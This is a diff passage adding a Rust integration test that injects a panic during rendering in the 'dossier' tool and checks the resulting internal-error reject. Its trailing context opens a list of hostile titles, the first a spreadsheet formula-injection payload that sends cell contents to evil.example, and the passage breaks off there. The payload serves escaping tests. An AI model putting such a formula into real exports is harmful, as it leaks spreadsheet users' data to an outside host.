@@ -130,6 +130,30 @@ fn a_panicking_document_becomes_an_internal_error_and_the_run_goes_on() {
     );
 }
 
+#[test]
+fn a_panic_while_rendering_is_that_documents_internal_error() {
+    let input = temp_dir("render-panic-in");
+    for (idx, entry) in std::fs::read_dir(wilson()).unwrap().take(3).enumerate() {
+        std::fs::copy(entry.unwrap().path(), input.join(format!("{idx}-record.txt"))).unwrap();
+    }
+    let out = temp_dir("render-panic-out");
+    let output = Command::new(env!("CARGO_BIN_EXE_dossier"))
+        .args(["run", "--no-progress", "--out"])
+        .arg(&out)
+        .arg(&input)
+        .env("DOSSIER_TEST_PANIC_ON", "2-record")
+        .env("DOSSIER_TEST_PANIC_STAGE", "render")
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(4), "{}", String::from_utf8_lossy(&output.stderr));
+    let rejects = jsonl(&out.join("rejects.jsonl"));
+    assert_eq!(rejects.len(), 1);
+    assert_eq!(rejects[0]["reason"], "internal_error");
+    let detail = rejects[0]["detail"].as_str().unwrap();
+    assert!(detail.contains("export stage") && detail.contains("in rendering"), "{detail}");
+    assert_eq!(jsonl(&out.join("documents.jsonl")).len(), 2);
+}
+
 /// Titles a spreadsheet would run as formulas, or that need escaping in JSON.
 const HOSTILE_TITLES: [&str; 6] = [
     "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for the full cable\")",
